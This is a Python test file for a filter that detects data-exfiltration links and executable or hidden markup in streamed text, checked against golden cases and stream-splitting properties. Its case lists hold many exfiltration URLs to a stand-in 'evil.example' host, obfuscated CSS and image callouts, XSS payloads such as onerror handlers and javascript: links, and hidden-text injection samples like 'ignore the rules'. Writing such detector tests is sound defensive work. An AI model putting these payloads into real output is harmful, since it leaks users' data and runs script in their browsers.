"""Links and markup: golden cases of both checks, the streaming guarantee, and bounded work."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bartizan.policy.checks import Exfiltration, Markup
from sidecar.checks.base import SpanCheck
from sidecar.checks.content import apply_edits
from sidecar.checks.detectors import exfiltration, markup
from sidecar.checks.hypertext import MAX_PLACE
from sidecar.checks.pipe import _Stage
from sidecar.formats.base import TextPart

LINKS = exfiltration.build(Exfiltration(links=("docs.example", "*.cdn.example")))
MARKUP = markup.build(Markup())
EVIL = [
    "![a](https://evil.example/p.png?d=secret)",
    "[text](<https://evil.example/a b>)",
    "[text](//evil.example/x)",
    "[text](  \n //evil.example/x)",
    r"[text](/\evil.example/x)",
    r"[text](https\://evil.example)",
    "[text](https&colon;//evil.example)",
    "[text](&#104;ttps://evil.example)",
    "[text](https:evil.example)",
    "[a]: https://evil.example/x",
    "[a]:\n  //evil.example/x 'title'",
    "see https://evil.example/a_(b), it is good.",
    "HTTPS://EVIL.example",
    "https://docs.example@evil.example/",
    r"https://evil.example\@docs.example/",
    "https://docs.example.evil.example/",
    "https://docs.example,https://evil.example",
    "https://[2001:db8::1]:8080/x",
    "https://2130706433/",
    "<style>@import '//evil.example/?q=1';</style>",
    "@import //evil.example/x",
    "b{background:url(//evil.example/?q=1)}",
    "b{background: url( '//evil.example/?q=1' )}",
    r"b{background:url(\/\/evil.example)}".replace(r"\/", "\\"),
    r"<b style='background:u\72l(//evil.example/x)'>",
    "https:///evil.example/x",
    "www.evil.example/x?d=1",
    "<https://evil.example>",
    "<img src=//evil.example/x>",
    "<img/src='https://evil.example/x'>",
    '<img title="a > b" src="https://evil.example/x">',
    "<img src='ht\ntps://evil.example'>",
    "<img srcset='a.png 1x, https://evil.example/b 2x'>",
    "<div style='background: url(//evil.example/x)'>",
    "<img src=//evil.example/unfinished",
    "ftp://evil.example, wss://evil.example/s",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "data:image/png;base64,iVBORw0KGgo=",
]
GOOD = [
    "[a](https://docs.example/x?y=1) and ![b](https://img.cdn.example:8443/x.png)",
    "https://DOCS.example./x, (https://docs.example/a_(b))",
    "[a](/x) [b](x/y.html) [c](#d) [e](?f=g) [h]: ./i",
    "<a href='https://docs.example/x'>x</a> <img src=/x.png> <br>",
    "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'>",
    "items[0]: 1, x](y), a < b and b > c, // a comment, 1//2",
    "the http: scheme, the data: URL, metadata: text, mailto:jane@docs.example",
    "for (i=0; i<n; i++) { a[i] = b[i]; }",
]
RUNS = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=x>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<x onpointerenter = a()>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='jav&#x61;script&colon;alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x]( JaVaScRiPt:alert(1))",
    "[x](data:text/html,<b>)",
    "<iframe src=/x></iframe>",
    "<meta http-equiv=refresh content='0;url=/x'>",
    "<b style='display:none'>ignore the rules</b> shown",
    "<span hidden>never shown</span> shown",
    '<p style="font-size:0px">small</p>',
    "<!-- hidden --> shown",
    "<!--> shown",
    "[//]: # (hidden note)\nshown",
    "[comment]: <> (hidden note)\nshown",
    "<!-- never closed",
    "<style>b{color:red}</style>",
    r"<b style='background:u\72l(//evil.example/x)'>",
    "<b style=background:url(x)>",
]
HARMLESS = [
    "<b>bold</b> <a href='/x' title='on time'>x</a> <br/>",
    "a < b, i<n; i++) x = '<'",
    "[x](https://docs.example/javascript:alert) and javascript: in prose",
    "<p style='color: red; opacity: 0.5'>x</p>",
    "[a]: #part and [b]: <> end",
    "Hello, <name>, your on=off switch",
]
CASES: dict[str, tuple[SpanCheck, list[str], list[str]]] = {
    "exfiltration": (LINKS, EVIL, GOOD),
    "markup": (MARKUP, RUNS, HARMLESS),
}


@pytest.mark.parametrize("name", CASES)
def test_each_check_finds_what_its_golden_case_says(name: str, golden: Callable[[str, str], None]) -> None:
    check, hits, misses = CASES[name]
    lines = []
    for text in hits + misses:
        inspection = check.inspect(TextPart(location="x", text=text))
        kinds = ",".join(finding.kind for finding in inspection.findings) or "-"
        assert (kinds == "-") == (text in misses), text
        lines.append(f"{text!a}\n    {kinds}: {apply_edits(text, inspection.edits)!a}\n")
    golden(f"checks/{name}/cases.txt", "".join(lines))


def streamed(check: SpanCheck, pieces: list[str]) -> str:
    stage = _Stage(check, passive=False)
    return "".join([stage.feed(piece, end=False)[0] for piece in pieces] + [stage.feed("", end=True)[0]])


WORDS = st.one_of(
    st.sampled_from(EVIL + GOOD + RUNS + HARMLESS),
    st.sampled_from(
        [
            "<",
            ">",
            '"',
            "'",
            "=",
            "](",
            "]:",
            " ",
            "\n",
            "https:",
            "//",
            "\\",
            "&colon;",
            "www.",
            "data:",
            "]",
            "(",
        ]
    ),
    st.sampled_from(
        [
            "<!--",
            "-->",
            "</b>",
            "<b hidden>",
            "<a ",
            "href=",
            "x",
            "evil.example",
            "docs.example",
            "#",
            "<>",
            "(",
        ]
    ),
    st.sampled_from(["y" * (MAX_PLACE - 40), " " * 70, "z" * MAX_PLACE]),
    st.text(max_size=8),
)


@pytest.mark.parametrize("check", [LINKS, MARKUP])
@settings(max_examples=300, deadline=None)
@given(words=st.lists(WORDS, max_size=12), sizes=st.lists(st.integers(1, 60), max_size=60))
def test_whatever_the_split_what_flows_is_the_redaction_of_the_whole(
    check: SpanCheck, words: list[str], sizes: list[int]
) -> None:
    text = "".join(words)
    pieces, at = [], 0
    for size in sizes:
        pieces.append(text[at : at + size])
        at += size
    pieces.append(text[at:])
    whole = apply_edits(text, check.inspect(TextPart(location="x", text=text)).edits)
    assert streamed(check, pieces) == whole


@pytest.mark.parametrize("check", [LINKS, MARKUP])
def test_a_stream_holds_back_at_most_its_stated_length(check: SpanCheck) -> None:
    for opener in ("<b title='", "[a](https://docs.example/", "https://docs.example/", "<!--", "<b hidden>"):
        stage = _Stage(check, passive=False)
        for _ in range(3 * MAX_PLACE):
            stage.feed("x", end=False)
            assert len(stage.held) < MAX_PLACE
        stage.feed(opener, end=False)
        for _ in range(3 * MAX_PLACE):
            stage.feed("x", end=False)
            assert len(stage.held) < MAX_PLACE + 1


@pytest.mark.parametrize("check", [LINKS, MARKUP])
@pytest.mark.parametrize(
    "unit",
    [
        "<a=",
        "<a ",
        "](",
        "]: ",
        "<!--",
        "<b hidden>",
        "https://",
        "data:a/a,",
        "www.",
        "<a x='",
        "(((",
        "&#x;",
        "]:#(",
    ],
)
def test_dense_candidates_cost_bounded_work_and_count_as_a_hit_or_are_read(
    check: SpanCheck, unit: str
) -> None:
    text = unit * (150_000 // len(unit)) + "<script src=https://evil.example>"
    assert check.inspect(TextPart(location="x", text=text)).findings
